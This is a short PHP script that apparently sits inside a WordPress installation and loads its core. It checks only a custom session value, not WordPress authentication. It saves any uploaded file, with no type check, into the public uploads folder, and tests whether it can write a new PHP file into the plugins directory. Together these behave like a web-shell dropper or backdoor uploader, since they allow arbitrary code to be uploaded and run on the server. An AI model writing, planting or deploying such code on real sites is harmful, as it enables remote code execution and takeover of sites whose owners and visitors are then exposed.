<?php

require __DIR__.'/../wp-load.php';

session_start();
if (!isset($_SESSION['user'])) {
    header('Location: /wp-login.php', true, 302);
    exit;
}
$upload = '';
if (isset($_FILES['file']) && move_uploaded_file($_FILES['file']['tmp_name'], ABSPATH.'wp-content/uploads/'.basename($_FILES['file']['name']))) {
    $upload = '/wp-content/uploads/'.basename($_FILES['file']['name']);
}
$readOnly = !@file_put_contents(ABSPATH.'wp-content/plugins/new.php', '<?php');

echo json_encode(['user' => $_SESSION['user'], 'upload' => $upload, 'readOnly' => $readOnly]);
